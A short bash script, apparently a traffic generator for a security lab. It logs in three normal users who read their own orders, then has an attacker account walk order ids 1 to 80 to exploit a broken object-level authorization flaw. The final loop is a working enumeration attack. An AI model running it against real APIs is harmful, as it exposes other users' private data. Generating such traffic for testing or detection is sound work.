# An id walker. First three ordinary users (their own addresses) read their own orders; then
# mallory (a real account) logs in and reads orders 1..80 in sequence over one keep-alive
# connection. The app does not check the owner (BOLA), so mallory gets every one.
set -u
read -r -a ips <<<"$CLIENT_IPS"
login() { # address user password -> JWT
  curl -s --interface "$1" -H "Content-Type: application/json" \
    -d "{\"username\": \"$2\", \"password\": \"$3\"}" "http://$SERVER/api/login" |
    python3 -c 'import json, sys; print(json.load(sys.stdin)["token"])'
}
n=1
for up in alice:wonderland bob:builder carol:singer42; do
  ip=${ips[$n]} u=${up%%:*} p=${up#*:}
  n=$((n + 1))
  token=$(login "$ip" "$u" "$p")
  ids=$(curl -s --interface "$ip" -H "Authorization: Bearer $token" "http://$SERVER/api/me/orders" |
    python3 -c 'import json, sys; print(" ".join(str(i) for i in json.load(sys.stdin)[:8]))')
  for i in $ids; do
    curl -s -o /dev/null --interface "$ip" -H "Authorization: Bearer $token" "http://$SERVER/api/orders/$i"
  done
done
ip=${ips[0]}
token=$(login "$ip" mallory evil-but-valid)
urls=()
for i in $(seq 1 80); do urls+=("http://$SERVER/api/orders/$i"); done
curl -s --interface "$ip" -H "Authorization: Bearer $token" "${urls[@]}" >/dev/null
